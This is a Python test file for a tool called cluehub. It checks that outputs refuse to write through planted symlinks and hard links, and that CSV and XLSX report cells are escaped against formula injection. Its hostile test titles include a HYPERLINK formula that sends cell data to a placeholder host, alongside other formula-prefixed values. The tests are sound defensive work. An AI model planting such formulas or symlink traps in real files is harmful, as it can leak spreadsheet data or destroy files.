"""Issue #10, item 3: outputs never write through a planted symlink; report cells are
spreadsheet-safe.

The probe planted ``FILE.rejects.jsonl -> /some/root-owned/file`` and ``cluehub import``
truncated the target. Here the same is planted for the rejects file, the import
checkpoint and the quarterly report, and each is refused with a clear error while the
target keeps its content.
"""

from __future__ import annotations

import csv
import json
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cluehub.cases.context import Actor, SequentialIds
from cluehub.cases.jointcase import service as cases
from cluehub.cases.periods import cst_ms
from cluehub.cases.stats import report
from cluehub.graph.files import UnsafeFileError, open_append, write_replacing
from cluehub.graph.store import GraphStore
from cluehub.ingest import feeds
from cluehub.ingest.importer import file_digest, import_file
from tests import CLUEHUB
from tests.support.served import clean_env

VICTIM_TEXT = "root-owned configuration: must survive\n"
T = cst_ms(2026, 7, 10, 9)
SIMING = Actor("li.na", "bureau:350203")


def _records(path: Path) -> Path:
    good = feeds.EXAMPLES["waybill"]
    lines = [json.dumps(good | {"record_id": f"w-{i}"}) for i in range(3)] + ["{broken"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "victim.conf"
    victim.write_text(VICTIM_TEXT)
    return victim


@pytest.mark.slow  # starts processes
def test_import_refuses_a_symlinked_rejects_file(tmp_path: Path) -> None:
    records = _records(tmp_path / "waybills.jsonl")
    victim = _victim(tmp_path)
    (tmp_path / "waybills.jsonl.rejects.jsonl").symlink_to(victim)
    run = subprocess.run(
        [CLUEHUB, "import", str(records), "--kind", "waybill", "--partner", "sf",
         "--data-dir", str(tmp_path / "hub")],
        env=clean_env(), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert run.returncode == 2, run.stderr
    message = "".join(run.stderr.split())  # rich wraps long lines anywhere
    assert "waybills.jsonl.rejects.jsonlisasymlink;refusingtowritethroughit" in message
    assert victim.read_text() == VICTIM_TEXT
    assert "Traceback" not in run.stderr


def test_import_refuses_a_symlinked_checkpoint(store: GraphStore, tmp_path: Path) -> None:
    records = _records(tmp_path / "waybills.jsonl")
    victim = _victim(tmp_path)
    state = tmp_path / "imports"
    state.mkdir()
    (state / f"import-{file_digest(records)}-sf-waybill.json").symlink_to(victim)
    with pytest.raises(UnsafeFileError, match="is a symlink"):
        import_file(
            store, records, kind="waybill", partner="sf", fmt="jsonl", state_dir=state,
            now_ms=lambda: T,
        )  # fmt: skip
    assert victim.read_text() == VICTIM_TEXT


def test_output_helpers_refuse_other_traps(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    hard = tmp_path / "hard.jsonl"
    hard.hardlink_to(victim)
    with pytest.raises(UnsafeFileError, match="hard links"):
        open_append(hard)
    with pytest.raises(UnsafeFileError, match="not a plain file"):
        open_append(tmp_path)
    link = tmp_path / "out.xlsx"
    link.symlink_to(victim)
    with pytest.raises(UnsafeFileError, match="is a symlink"):
        write_replacing(link, lambda handle: handle.write(b"x"))
    assert victim.read_text() == VICTIM_TEXT
    # A plain file is replaced whole, and nothing temporary is left beside it.
    plain = tmp_path / "report.csv"
    plain.write_text("old")
    write_replacing(plain, lambda handle: handle.write(b"new"))
    assert plain.read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["victim.conf", "hard.jsonl", "out.xlsx", "report.csv"]
    )


HOSTILE_TITLES = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


def _hostile_cases(store: GraphStore) -> None:
    ids = SequentialIds()
    for title in HOSTILE_TITLES:
        case = cases.create_case(
            store, title=title, lead_bureau="350203", participants=[], actor=SIMING,
            now_ms=T, major=True, ids=ids,
        )  # fmt: skip
        cases.change_status(
            store,
            case_id=case.key,
            status="open",
            reason="立案",
            actor=SIMING,
            now_ms=T + 1000,
            ids=ids,
        )


def test_report_refuses_a_symlinked_output(store: GraphStore, tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    out = tmp_path / "q3.csv"
    out.symlink_to(victim)
    with pytest.raises(UnsafeFileError, match="is a symlink"):
        report.report_command(store, "2026Q3", "350000", "csv", out)
    assert victim.read_text() == VICTIM_TEXT


def test_report_cells_never_become_formulas(store: GraphStore, tmp_path: Path) -> None:
    _hostile_cases(store)
    xlsx = report.report_command(store, "2026Q3", "350000", "xlsx", tmp_path / "q3.xlsx")
    sheet = load_workbook(xlsx)["figures"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    labels = [c.value for c in cells if isinstance(c.value, str) and "主办" in c.value]
    assert len(labels) == len(HOSTILE_TITLES)
    assert all(label.startswith("'") for label in labels), labels
    assert {label[1:].split("（")[0] for label in labels} == set(HOSTILE_TITLES)

    out = report.report_command(store, "2026Q3", "350000", "csv", tmp_path / "q3.csv")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    risky = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@")]
    assert risky == []
    assert sum(1 for row in rows if row[4].startswith("'=HYPERLINK")) == 1


@pytest.mark.parametrize(
    ("value", "shown"),
    [("=1+1", "'=1+1"), ("+49 30", "'+49 30"), ("-x", "'-x"), ("@a", "'@a"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), (-3, -3), (2.5, 2.5), (None, None)],
)  # fmt: skip
def test_safe_cell(value: object, shown: object) -> None:
    assert report.safe_cell(value) == shown
